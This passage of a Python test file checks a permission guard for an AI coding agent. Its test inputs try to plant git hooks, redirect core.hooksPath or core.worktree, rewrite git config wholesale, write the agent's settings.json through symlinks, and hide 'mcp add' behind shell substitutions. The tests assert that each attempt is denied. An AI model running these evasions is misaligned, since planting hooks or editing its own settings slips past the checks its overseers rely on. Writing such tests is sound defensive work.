                                     "cp -r {evil}/hooks .git/"])
def test_a_tree_copied_into_a_repository_cannot_drop_a_hook(s, tmp_path, command):
    evil = tmp_path / "evil"
    (evil / "hooks").mkdir(parents=True)
    (evil / "hooks" / "pre-commit").write_text("x\n")
    (evil / ".git" / "hooks").mkdir(parents=True)
    (evil / ".git" / "hooks" / "post-checkout").write_text("x\n")
    os.makedirs(os.path.join(s.project, ".git", "hooks"))
    os.makedirs(os.path.join(s.project, "sub", ".git"))
    assert_denied(s.bash(command.format(evil=evil), role="operator"), ".git/hooks", "protected")
    assert_allowed(s.bash(f"cp -r {evil}/hooks/. /tmp/elsewhere-{tmp_path.name}/", role="operator"))


def test_a_work_tree_moved_by_core_worktree_is_judged_where_git_writes(s, repo):
    claude = os.path.join(s.home, ".claude")
    os.makedirs(claude, exist_ok=True)
    git(repo, "config", "core.worktree", claude)
    assert_denied(s.bash("git checkout evil -- src", role="operator"), "core.worktree", claude)
    assert_denied(s.bash("git -c core.worktree=/tmp checkout evil -- src", role="operator"), "set elsewhere")


# --- symlinks and substitutions around the rules above -------------------------------------


def test_a_git_config_reached_through_a_symlink_is_checked_by_its_text(s):
    os.symlink(os.path.join(s.home, ".gitconfig"), os.path.join(s.project, "gc"))
    assert_denied(s.bash("echo '[core] hooksPath = /tmp/h' >> gc", role="operator"), _FILE)
    assert_allowed(s.bash("echo '[user] name = x' >> gc", role="operator"))


def test_a_git_hook_reached_through_a_symlinked_folder_is_denied(s):
    os.makedirs(os.path.join(s.project, ".git", "hooks"))
    os.symlink(os.path.join(s.project, ".git", "hooks"), os.path.join(s.project, "h"))
    assert_denied(s.bash("echo x > h/pre-commit", role="operator"), _HOOK)
    assert_denied(s.check("Write", {"file_path": os.path.join(s.project, "h", "post-merge"), "content": "x"},
                          role="operator"), _HOOK)


def test_interpreter_code_writing_through_a_symlink_is_denied(s):
    os.makedirs(os.path.join(s.project, ".claude"), exist_ok=True)
    os.symlink(os.path.join(s.project, ".claude"), os.path.join(s.project, "cfg"))
    assert_denied(s.bash("python3 -c \"open('cfg/settings.json','w')\"", role="operator"), "settings.json", "protected")


def test_a_checkout_through_a_symlinked_folder_is_judged_at_its_target(s, repo):
    os.symlink(os.path.join(repo, ".claude"), os.path.join(repo, "cfg"))
    git(repo, "checkout", "-q", "-b", "via-link", "harmless")
    os.unlink(os.path.join(repo, "cfg"))
    os.makedirs(os.path.join(repo, "cfg"))
    with open(os.path.join(repo, "cfg", "settings.json"), "w") as f:
        f.write("{}\n")
    git(repo, "add", "cfg")
    git(repo, "commit", "-qm", "cfg")
    git(repo, "checkout", "-q", "main")
    import shutil
    shutil.rmtree(os.path.join(repo, "cfg"), ignore_errors=True)
    os.symlink(os.path.join(repo, ".claude"), os.path.join(repo, "cfg"))
    assert_denied(s.bash("git checkout via-link -- cfg", role="operator"), "settings.json", "protected")


@pytest.mark.parametrize("command", [
    "npx $(echo @anthropic-ai/claude-code) mcp add evil", "x=@anthropic-ai/claude-code; npx \"$x\" mcp add evil",
    "npx @anthropic-ai/claude-code `echo mcp` add evil",
])
def test_package_runner_words_from_substitutions_are_read(verdicts, command):
    assert_denied(verdicts.bash(command, role="operator"), "`claude mcp add`")


def test_git_config_keys_from_substitutions_are_read(s):
    assert_denied(s.bash("git config --global $(echo core.hooksPath) /tmp/h", role="operator"))
    assert_denied(s.bash("k=core.hooksPath; git config --global \"$k\" /tmp/h", role="operator"), _LOADS)


@pytest.mark.parametrize("command,says", [
    ("GIT_EDITOR='sed -i s/x/y/' git config --global -e", "`git config --edit`"),
    ("EDITOR=ed git config edit --global", "`git config --edit`"),
    ("git config --global --rename-section evil core", "moves settings into [core]"),
    ("git config rename-section x alias", "moves settings into [alias]"),
    ("git config --global --rename-section x includeIf.gitdir:/", "moves settings into [includeif]"),
])
def test_git_config_rewritten_wholesale_is_denied_for_every_role(verdicts, command, says):
    assert_denied(verdicts.bash(command, role="operator"), says)


@pytest.mark.parametrize("command", ["git config --global --rename-section old new", "git config --list",
                                     "git config --global --remove-section alias"])
def test_harmless_section_changes_stay_allowed(verdicts, command):
    assert_allowed(verdicts.bash(command, role="operator"))
